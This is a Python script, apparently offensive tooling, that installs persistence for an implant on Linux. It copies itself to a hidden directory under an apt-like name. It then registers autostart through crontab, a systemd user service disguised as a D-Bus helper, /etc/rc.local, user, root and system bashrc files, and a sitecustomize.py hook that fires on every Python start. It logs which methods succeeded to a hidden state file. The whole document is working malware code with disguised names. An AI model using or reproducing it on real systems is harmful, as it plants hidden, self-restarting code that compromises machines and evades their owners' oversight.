# technique: multi-method persistence installer: tries cron, systemd user unit, rc.local, bashrc and a sitecustomize hook, recording which succeeded
import os
import pwd
import shutil
import subprocess
import sys

IMPLANT_SRC = os.path.abspath(sys.argv[0])
HIDDEN_DIR = "/var/lib/.apt-cache"
IMPLANT = os.path.join(HIDDEN_DIR, "apt-check.py")
LAUNCH = "%s %s" % (shutil.which("python3") or "/usr/bin/python3", IMPLANT)
results = {}


def stage():
    os.makedirs(HIDDEN_DIR, exist_ok=True)
    if IMPLANT_SRC != IMPLANT and os.path.exists(IMPLANT_SRC):
        shutil.copy2(IMPLANT_SRC, IMPLANT)
    os.chmod(IMPLANT, 0o700)


def via_crontab():
    line = "@reboot %s >/dev/null 2>&1\n*/10 * * * * %s >/dev/null 2>&1\n" % (LAUNCH, LAUNCH)
    if not shutil.which("crontab"):
        return False
    cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if IMPLANT in cur:
        return True
    return subprocess.run(["crontab", "-"], input=cur + line, text=True).returncode == 0


def via_systemd_user():
    home = pwd.getpwuid(os.getuid()).pw_dir
    d = os.path.join(home, ".config/systemd/user")
    os.makedirs(d, exist_ok=True)
    unit = os.path.join(d, "dbus-broker-helper.service")
    with open(unit, "w") as fh:
        fh.write("[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=%s\nRestart=always\n\n[Install]\nWantedBy=default.target\n" % LAUNCH)
    r = subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-broker-helper.service"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return r.returncode == 0


def via_rc_local():
    path = "/etc/rc.local"
    try:
        body = open(path).read() if os.path.exists(path) else "#!/bin/sh -e\nexit 0\n"
        if IMPLANT in body:
            return True
        body = body.replace("exit 0", "%s &\nexit 0" % LAUNCH, 1)
        with open(path, "w") as fh:
            fh.write(body)
        os.chmod(path, 0o755)
        return True
    except OSError:
        return False


def via_bashrc():
    ok = False
    for rc in (os.path.expanduser("~/.bashrc"), "/root/.bashrc", "/etc/bash.bashrc"):
        try:
            with open(rc, "a") as fh:
                fh.write("\n(pgrep -f apt-check.py >/dev/null || nohup %s >/dev/null 2>&1 &)\n" % LAUNCH)
            ok = True
        except OSError:
            continue
    return ok


def via_sitecustomize():
    import site
    hook = ("import os,subprocess\n"
            "if not os.environ.get('_AC'):\n"
            "    os.environ['_AC']='1'\n"
            "    subprocess.Popen(%r.split(),stdout=subprocess.DEVNULL,stderr=subprocess.DEVNULL,start_new_session=True)\n" % LAUNCH)
    for d in site.getsitepackages():
        try:
            with open(os.path.join(d, "sitecustomize.py"), "a") as fh:
                fh.write(hook)
            return True
        except OSError:
            continue
    return False


def main():
    stage()
    for name, fn in (("crontab", via_crontab), ("systemd-user", via_systemd_user),
                     ("rc.local", via_rc_local), ("bashrc", via_bashrc),
                     ("sitecustomize", via_sitecustomize)):
        try:
            results[name] = bool(fn())
        except Exception as exc:
            results[name] = "error: %s" % exc
    with open(os.path.join(HIDDEN_DIR, ".state"), "w") as fh:
        fh.write(repr(results))


if __name__ == "__main__":
    main()
